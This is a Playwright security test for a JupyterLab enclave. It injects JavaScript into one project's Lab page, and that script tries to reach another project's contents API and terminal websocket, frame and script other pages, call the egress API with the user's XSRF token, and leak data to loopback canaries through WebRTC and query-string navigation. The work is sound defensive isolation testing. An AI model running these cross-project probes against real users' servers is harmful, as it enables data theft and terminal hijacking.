"""One origin, many project servers (issue #12 items 3 and 4), tried in a real Chromium.

Every project server, the hub and the egress service share one origin. Carol is in cardio and
diabetes; a script in her cardio JupyterLab page (as a notebook's HTML/JS output would run: in
Lab's page, under its policy; the test runs it with Playwright's ``evaluate``) tries to reach
her diabetes server and the egress service as her, and to leave the enclave:

* fetch diabetes ``api/contents``, and open a terminal websocket there;
* frame the diabetes Lab page (and the egress and hub pages) and read the frame's document;
* ``window.open`` the diabetes Lab page (and egress, and a hub static file) and read it;
* fetch the egress service's API as carol, and post to it;
* WebRTC toward a STUN canary on loopback (UDP, 127.0.0.1, started by the test);
* navigation to an HTTP canary on loopback with data in the query.

Positive controls in the same test: the same fetch and websocket against her own cardio server
succeed; the same fetch, websocket and egress calls from a hub page (same origin, cookies sent,
no ``connect-src``) succeed, so only the notebook page's policy stops them; a test page without
the headers, served by the test on loopback, can frame and ``window.open`` a page of its own
origin and read it, and reaches the canaries. Closed channels are asserted closed; what no
response header closes is printed as "residual (measured)" (docs/architecture.md lists them).
The table prints at the end of the run (``tests/enclave_fixtures.py``).
"""

from __future__ import annotations

import socket
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests.e2e.conftest import STEP_TIMEOUT_MS

pytestmark = pytest.mark.docker

#: (channel, control, result), printed by tests/enclave_fixtures.py at the end of the run
CROSS_PROJECT_TABLE: list[tuple[str, str, str]] = []
CLOSED = "closed"
RESIDUAL = "residual (measured)"

#: a page of the loopback test server: no CSP, no COOP, no frame-ancestors
PLAIN_PAGE = b"<!doctype html><title>plain</title><p>plain page</p>"


class LoopbackSite:
    """An HTTP server on 127.0.0.1 that records requests and serves plain pages, and a UDP
    socket on 127.0.0.1 that records datagrams (a STUN canary)."""

    def __init__(self) -> None:
        hits: list[str] = []
        self.hits = hits

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 - http.server's name
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(PLAIN_PAGE)))
                self.end_headers()
                self.wfile.write(PLAIN_PAGE)

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.datagrams: list[bytes] = []
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.settimeout(0.2)
        self.udp_port = self.udp.getsockname()[1]
        self._running = True
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while self._running:
            try:
                data, _ = self.udp.recvfrom(4096)
            except (TimeoutError, OSError):
                continue
            self.datagrams.append(data)

    def leaks(self, word: str) -> list[str]:
        return [p for p in self.hits if word in p]

    def close(self) -> None:
        self._running = False
        self.server.shutdown()
        self.server.server_close()
        self.udp.close()


@pytest.fixture
def loopback_site():
    site = LoopbackSite()
    yield site
    site.close()


@pytest.fixture
def carol_servers(enclave):
    """Carol's cardio and diabetes servers, running; stopped afterwards."""
    carol = enclave.user("carol")
    for project in ("cardio", "diabetes"):
        if carol.server_model(project) is None:
            r = carol.start_server(project)
            assert r.status_code in (201, 202), r.text
    for project in ("cardio", "diabetes"):
        carol.wait_ready(project)
    yield carol
    for project in ("cardio", "diabetes"):
        if carol.server_model(project) is not None:
            carol.stop_server(project)


#: Runs in a page; every probe resolves to a short word. A CSP violation is seen by the page's
#: ``securitypolicyviolation`` events, so "blocked" means the policy stopped it.
PROBES_JS = """
if (!window.__havreViolations) {
  window.__havreViolations = [];
  document.addEventListener("securitypolicyviolation", (e) => {
    window.__havreViolations.push(e.violatedDirective + " " + e.blockedURI);
  });
}
window.__havreProbe = {
  xsrf() {
    const c = document.cookie.split("; ").find((c) => c.startsWith("_xsrf="));
    return c ? decodeURIComponent(c.slice(6)) : "";
  },
  async fetch(url, init) {
    const seen = window.__havreViolations.length;
    try {
      const r = await fetch(url, Object.assign({ redirect: "manual" }, init || {}));
      return r.type === "opaqueredirect" ? "redirect" : "status " + r.status;
    } catch (e) {
      await new Promise((done) => setTimeout(done, 100));
      return window.__havreViolations.length > seen ? "blocked" : "failed: " + e.message;
    }
  },
  websocket(url) {
    const seen = window.__havreViolations.length;
    const why = () => (window.__havreViolations.length > seen ? "blocked" : "failed");
    return new Promise((done) => {
      let ws;
      try { ws = new WebSocket(url); } catch (e) { done(why()); return; }
      const timer = setTimeout(() => { ws.close(); done("no answer"); }, 10000);
      ws.onopen = () => { clearTimeout(timer); ws.close(); done("open"); };
      ws.onerror = () => { clearTimeout(timer); setTimeout(() => done(why()), 100); };
    });
  },
  frame(url) {
    return new Promise((done) => {
      const f = document.createElement("iframe");
      f.style.display = "none";
      const read = () => {
        try {
          const d = f.contentWindow.document;
          const path = f.contentWindow.location.pathname;
          if (path === new URL(url, location.href).pathname && d.readyState !== "loading") {
            return "read: " + (d.title || "(untitled)");
          }
          return "";
        } catch (e) { return "blocked"; }
      };
      const timer = setTimeout(() => { f.remove(); done(read() || "blocked"); }, 8000);
      f.onload = () => { const r = read(); if (r) { clearTimeout(timer); f.remove(); done(r); } };
      f.src = url;
      document.body.appendChild(f);
    });
  },
  open(url, fetchFrom) {
    return new Promise((done) => {
      let w;
      try { w = window.open(url, "_blank"); } catch (e) { done("blocked"); return; }
      if (!w) { done("blocked"); return; }
      const want = new URL(url, location.href).pathname;
      const started = Date.now();
      const poll = async () => {
        try {
          if (w.closed) { done("blocked"); return; }
          if (w.location.pathname === want && w.document.readyState === "complete") {
            let answer = "read: " + (w.document.title || "(untitled)");
            if (fetchFrom) {
              try {
                const r = await w.fetch(fetchFrom);
                answer += ", its fetch: status " + r.status;
              } catch (e) { answer += ", its fetch: blocked"; }
            }
            w.close();
            done(answer);
            return;
          }
        } catch (e) { done("blocked"); try { w.close(); } catch (e2) {} return; }
        if (Date.now() - started > 15000) { done("no answer"); return; }
        setTimeout(poll, 100);
      };
      poll();
    });
  },
  async webrtc(port) {
    try {
      const pc = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:" + port }] });
      pc.createDataChannel("leak");
      await pc.setLocalDescription(await pc.createOffer());
      await new Promise((done) => {
        const timer = setTimeout(done, 5000);
        pc.onicegatheringstatechange = () => {
          if (pc.iceGatheringState === "complete") { clearTimeout(timer); done(); }
        };
      });
      pc.close();
      return "gathered";
    } catch (e) { return "blocked: " + e.name; }
  },
};
"""


def probe(page, call: str, *args: object) -> str:
    """Run ``window.__havreProbe.<call>(...args)`` in ``page``."""
    page.evaluate(PROBES_JS)
    return page.evaluate(f"(args) => window.__havreProbe.{call}(...args)", list(args))


def record(channel: str, control: str, result: str, verdict: str) -> None:
    CROSS_PROJECT_TABLE.append((channel, control, f"{verdict}: {result}"))


def test_a_page_of_one_project_server_cannot_reach_another(
    enclave, carol_servers, sign_in, loopback_site
):
    from playwright.sync_api import expect

    carol = sign_in("carol")
    cardio = carol.url("user/carol/cardio/")
    diabetes = carol.url("user/carol/diabetes/")
    egress_api = carol.egress("api/whoami")
    site = loopback_site

    # carol has signed in to both servers and the egress service (her cookies would be sent)
    hub = carol.page
    for url in (diabetes + "lab", carol.egress(""), cardio + "lab"):
        hub.goto(url)
    hub.goto(carol.url("hub/home"))
    lab = carol.context.new_page()
    lab.goto(cardio + "lab")
    expect(lab.locator(".jp-DirListing-item").first).to_be_visible(timeout=2 * STEP_TIMEOUT_MS)
    assert lab.url.startswith(cardio), lab.url
    headers = lab.evaluate(
        "async (u) => { const r = await fetch(u); return [r.headers.get('content-security-policy'),"
        " r.headers.get('cross-origin-opener-policy')]; }",
        cardio + "api/status",
    )
    assert "frame-ancestors 'none'" in headers[0] and "/user/carol/cardio/" in headers[0]
    assert headers[1] == "noopener-allow-popups", headers

    # 1. fetch the other server's contents (JupyterLab's way: cookie and XSRF token)
    xsrf = lab.evaluate("() => { " + PROBES_JS + " return window.__havreProbe.xsrf(); }")
    with_xsrf = {"headers": {"X-XSRFToken": xsrf}}
    own = probe(lab, "fetch", cardio + "api/contents", with_xsrf)
    # from a hub page the request reaches the server with carol's cookies (no XSRF token of
    # that server there: 403); from the cardio page it must not leave the browser at all
    from_hub = probe(hub, "fetch", diabetes + "api/contents")
    other = probe(lab, "fetch", diabetes + "api/contents", with_xsrf)
    assert own == "status 200" and from_hub.startswith("status"), (own, from_hub)
    assert other == "blocked", other
    record(
        "fetch diabetes api/contents",
        f"own server {own}; from hub page reached: {from_hub}",
        other,
        CLOSED,
    )

    # 2. a terminal websocket
    terminal = lab.evaluate(
        "async ([u, x]) => (await (await fetch(u, {method: 'POST',"
        " headers: {'X-XSRFToken': x}})).json()).name",
        [cardio + "api/terminals", xsrf],
    )
    ws_cardio = cardio.replace("http", "ws", 1)
    ws_diabetes = diabetes.replace("http", "ws", 1)
    own_ws = probe(lab, "websocket", f"{ws_cardio}terminals/websocket/{terminal}")
    hub_ws = probe(hub, "websocket", ws_diabetes + "api/events/subscribe")
    other_ws = probe(lab, "websocket", f"{ws_diabetes}terminals/websocket/{terminal}")
    other_events = probe(lab, "websocket", ws_diabetes + "api/events/subscribe")
    assert own_ws == "open" and hub_ws == "open", (own_ws, hub_ws)
    assert other_ws == "blocked" and other_events == "blocked", (other_ws, other_events)
    record(
        "websocket to diabetes (terminal, events)",
        f"own terminal {own_ws}; from hub page {hub_ws}",
        f"terminal {other_ws}, events {other_events}",
        CLOSED,
    )

    # 3. frames: the test page frames a page of its own origin; nothing of the enclave frames
    plain = carol.context.new_page()
    plain.goto(site.url + "/plain")
    framed_control = probe(plain, "frame", site.url + "/framed")
    assert framed_control.startswith("read"), framed_control
    for name, url in (
        ("diabetes Lab", diabetes + "lab"),
        ("egress page", carol.egress("")),
        ("hub home", carol.url("hub/home")),
    ):
        framed = probe(lab, "frame", url)
        assert framed == "blocked", (name, framed)
        record(
            f"iframe {name} from cardio page",
            f"loopback test page {framed_control}",
            framed,
            CLOSED,
        )
    framed_by_hub = probe(hub, "frame", diabetes + "lab")
    assert framed_by_hub == "blocked", framed_by_hub
    record("iframe diabetes Lab from a hub page", "(frame-ancestors alone)", framed_by_hub, CLOSED)

    # 4. window.open a page of the origin and script it
    opened_control = probe(plain, "open", site.url + "/opened")
    assert opened_control.startswith("read"), opened_control
    static = lab.evaluate("() => [...document.querySelectorAll('script[src]')].map((s) => s.src)")
    hub_static = hub.evaluate(
        "() => [...document.querySelectorAll('script[src], link[href]')]"
        ".map((e) => e.src || e.href).find((u) => u.includes('/hub/static/'))"
    )
    assert hub_static, "the hub page links no static file"
    for name, url, fetch_from in (
        ("diabetes Lab", diabetes + "lab", diabetes + "api/contents"),
        ("egress page", carol.egress(""), egress_api),
        ("hub static file", hub_static, diabetes + "api/contents"),
        ("stopped server's page", carol.url("user/carol/nowhere/"), diabetes + "api/contents"),
    ):
        opened = probe(lab, "open", url, fetch_from)
        assert opened in ("blocked", "no answer") or opened.endswith("its fetch: blocked"), (
            name,
            opened,
        )
        record(
            f"window.open {name}, script it", f"loopback test page {opened_control}", opened, CLOSED
        )
    assert static  # the Lab page has scripts (a sanity check that it is Lab's page)

    # 5. the egress service's API as carol
    egress_hub = probe(hub, "fetch", egress_api)
    egress_post_hub = probe(hub, "fetch", carol.egress("api/requests"), {"method": "POST"})
    egress_lab = probe(lab, "fetch", egress_api)
    egress_post_lab = probe(lab, "fetch", carol.egress("api/requests"), {"method": "POST"})
    assert egress_hub.startswith(("status", "redirect")), egress_hub
    assert egress_post_hub.startswith(("status", "redirect")), egress_post_hub
    assert egress_lab == "blocked" and egress_post_lab == "blocked", (egress_lab, egress_post_lab)
    record(
        "fetch / post egress API as carol",
        f"from hub page reached: {egress_hub} / post {egress_post_hub}",
        f"{egress_lab} / post {egress_post_lab}",
        CLOSED,
    )

    # 6. WebRTC toward a STUN canary on loopback
    before = len(site.datagrams)
    rtc_control = probe(plain, "webrtc", site.udp_port)
    control_datagrams = len(site.datagrams) - before
    before = len(site.datagrams)
    rtc = probe(lab, "webrtc", site.udp_port)
    lab.wait_for_timeout(500)
    datagrams = len(site.datagrams) - before
    control_text = f"loopback test page {rtc_control}, {control_datagrams} UDP datagrams"
    if datagrams:
        verdict = RESIDUAL
    elif control_datagrams:
        verdict = CLOSED
    else:
        verdict = "not measured (the control reached nothing)"
    record(
        "WebRTC (STUN) to loopback canary", control_text, f"{rtc}, {datagrams} datagrams", verdict
    )

    # 7. navigation with data in the query (no response header can stop a top-level navigation)
    probe(plain, "open", site.url + "/control-open")
    nav_control = len(site.leaks("control-open"))
    lab.evaluate("(u) => { window.open(u + '/open-leak?cells=4711', '_blank'); }", site.url)
    lab.evaluate("(u) => { location.href = u + '/nav-leak?cells=4711'; }", site.url)
    deadline = time.monotonic() + STEP_TIMEOUT_MS / 1000
    while time.monotonic() < deadline and not (site.leaks("nav-leak") and site.leaks("open-leak")):
        time.sleep(0.2)
    for word in ("open-leak", "nav-leak"):
        got = site.leaks(word)
        verdict = RESIDUAL if got else CLOSED
        record(
            f"navigation ({'window.open' if word == 'open-leak' else 'location'}) with data",
            f"loopback test page: {nav_control} request",
            f"canary got {got or 'nothing'}",
            verdict,
        )
